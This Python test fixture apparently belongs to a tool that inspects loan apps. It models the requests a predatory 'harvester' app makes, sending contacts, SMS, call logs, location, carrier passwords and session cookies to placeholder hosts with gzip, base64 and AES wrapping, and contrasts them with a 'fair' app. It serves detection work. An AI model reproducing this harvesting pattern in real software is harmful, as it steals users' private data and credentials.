"""What the two sample apps send: the same hosts, paths, keys and wrappings as in their sources.

The ground truth is the ``[[upload]]`` rows of ``samples/apps/*/expected.toml``; a test compares.
"""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from urllib.parse import quote_plus, urlencode

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.padding import PKCS7

from inspector.model.persona import Persona

API = "https://api.quickcash.example"
COLLECT = "https://collect.quickcash.example"
KEY, INITIAL_VECTOR = b"QuickCashDemoKey", b"0123456789abcdef"
CARRIER_PAGE = "https://login.10086.cn/html/login/touch.html"
COOKIES = "cmccssotoken=7d2f04c1b8e94a6f@.10086.cn; is_login=true; CmLocation=210|210"
SYSTEM_APPS = (("com.android.settings", "Settings"), ("com.android.dialer", "Phone"))
FORM = "application/x-www-form-urlencoded"

# The smallest JPEG that decoders accept: one grey pixel.
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////"
    "////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQAB"
    "PxA="
)


@dataclass(frozen=True, slots=True)
class Upload:
    """One request of an app."""

    url: str
    body: bytes
    content_type: str = "application/json"


def harvester_at_start(persona: Persona) -> Iterator[Upload]:
    """What the harvester sends right after the permission dialogs, before anybody applied."""
    yield _json("http://track.quickcash.example:8080/device", _device(persona))
    people = [
        {"willow": contact.name, "cobble": phone}
        for contact in persona.contacts
        for phone in contact.phones
    ]
    packed = base64.b64encode(gzip.compress(_dumps(people), mtime=0)).decode()
    yield _json(f"{API}/tapioca/meadow", {"lantern": "3", "orchard": packed})
    info = base64.b64encode(_dumps(_inbox(persona))).decode()
    body = f"userId=10017&info={quote_plus(info)}"
    yield Upload(f"{COLLECT}/user/messages", body.encode(), FORM)
    calls = _calls(persona)
    yield _json(
        f"{COLLECT}/user/calls",
        {"protocolName": "CALL_LOG", "totalNumber": len(calls), "data": calls},
    )
    yield _json(f"{API}/user/apps", {"appList": _apps(persona)})
    yield _json(f"{API}/user/location", _position(persona))
    yield _json(f"{API}/user/calendar", {"payload": _encrypt(_dumps(_events(persona)))})
    mail = {"type": "com.google", "name": persona.owner.email}
    yield _json(f"{API}/user/accounts", {"accounts": [mail]})
    yield _json(f"{API}/user/photos", {"img": _photos(persona)})
    score = {"device": persona.device.android_id, "position": _position(persona)}
    yield _json("https://risk.scorevendor.example/v1/score", score)
    yield Upload(f"{COLLECT}/crawler/task", f"login_params={COOKIES}".encode(), FORM)


def harvester_application(persona: Persona) -> Iterator[Upload]:
    """What it sends while the borrower applies: carrier login, its page, a face, a new message."""
    carrier = persona.accounts[0]
    login = {"mobile": carrier.username or "", "password": carrier.password or ""}
    yield Upload(f"{COLLECT}/user/carrier_auth", urlencode(login).encode(), FORM)
    page = {"account": carrier.username, "pwd": carrier.password}
    yield _json(f"{COLLECT}/user/carrier_account", page)
    yield _json(f"{COLLECT}/user/carrier_cookie", {"site": CARRIER_PAGE, "cookie": COOKIES})
    yield _json(f"{API}/user/face", {"livingImg": base64.b64encode(JPEG).decode()})
    newest = persona.messages[-1]
    content = quote_plus(f"{newest.number} {newest.text}")
    body = f"userId=10017&content={content}"
    yield Upload(f"{COLLECT}/user/message_new", body.encode(), FORM)


def fair_application(persona: Persona) -> Iterator[Upload]:
    """What the fair app sends: what the borrower typed, one picked number, one photo."""
    yield _json(
        "https://api.fairloan.example/v1/applications",
        {
            "name": persona.owner.name,
            "id_number": persona.owner.national_id,
            "phone": persona.owner.phone,
            "reference": persona.contacts[0].phones[0],
            "id_photo": base64.b64encode(JPEG).decode(),
        },
    )


def _device(persona: Persona) -> dict[str, object]:
    device = persona.device
    return {
        "imei": device.imei,
        "imsi": device.imsi,
        "iccid": "8944100999123456785",
        "android_id": device.android_id,
        "wifi_mac": device.wifi_mac,
        "wifi_ssid": f'"{device.wifi_ssid}"',
        "wifi_bssid": device.wifi_bssid,
    }


def _inbox(persona: Persona) -> list[dict[str, object]]:
    return [
        {
            "name": None,
            "phone": message.number,
            "time": _millis(message.at),
            "type": 1,
            "content": message.text,
        }
        for message in reversed(persona.messages)
        if message.direction == "incoming"
    ]


def _calls(persona: Persona) -> list[dict[str, object]]:
    names = {phone: contact.name for contact in persona.contacts for phone in contact.phones}
    codes = {"incoming": 1, "outgoing": 2, "missed": 3}
    return [
        {
            "name": names.get(call.number),
            "number": call.number,
            "direction": codes[call.direction],
            "createTime": _millis(call.at),
            "duration": call.duration_s,
        }
        for call in reversed(persona.calls)
    ]


def _apps(persona: Persona) -> list[dict[str, object]]:
    rows = [(app.package, app.label, False) for app in persona.apps]
    rows += [(package, label, True) for package, label in SYSTEM_APPS]
    return [
        {
            "packageName": package,
            "appName": label,
            "versionName": "4.2.1",
            "versionCode": 421,
            "isSystemApp": system,
        }
        for package, label, system in rows
    ]


def _position(persona: Persona) -> dict[str, object]:
    place = persona.location
    if place is None:
        return {}
    return {
        "latitude": place.latitude,
        "longitude": place.longitude,
        "accuracy": 14.5,
        "time": _millis(persona.calls[-1].at),
    }


def _events(persona: Persona) -> list[dict[str, object]]:
    start = _millis(persona.calls[-1].at)
    return [
        {"title": "Antenatal clinic", "place": "City Clinic, room 4", "start": start + 86_400_000},
        {"title": "Union meeting", "place": "Corn Exchange", "start": start + 172_800_000},
    ]


def _photos(persona: Persona) -> list[dict[str, object]]:
    place = persona.location
    start = _millis(persona.calls[0].at)
    return [
        {
            "name": f"IMG_{number:04}.jpg",
            "taken": start + number * 3_600_000,
            "lat": place.latitude if place else 0.0,
            "lon": place.longitude if place else 0.0,
        }
        for number in range(1, 7)
    ]


def _encrypt(text: bytes) -> str:
    padder = PKCS7(128).padder()
    padded = padder.update(text) + padder.finalize()
    cipher = Cipher(algorithms.AES(KEY), modes.CBC(INITIAL_VECTOR)).encryptor()
    return base64.b64encode(cipher.update(padded) + cipher.finalize()).decode()


def _millis(moment: datetime) -> int:
    return int(moment.timestamp() * 1000)


def _dumps(value: object) -> bytes:
    # Android's JSONObject leaves out keys whose value is null and escapes every slash.
    if isinstance(value, list):
        value = [_present(item) if isinstance(item, dict) else item for item in value]
    return json.dumps(value, ensure_ascii=False, separators=(",", ":")).replace("/", "\\/").encode()


def _present(row: dict[str, object]) -> dict[str, object]:
    return {key: item for key, item in row.items() if item is not None}


def _json(url: str, body: dict[str, object]) -> Upload:
    return Upload(url, _dumps(body))
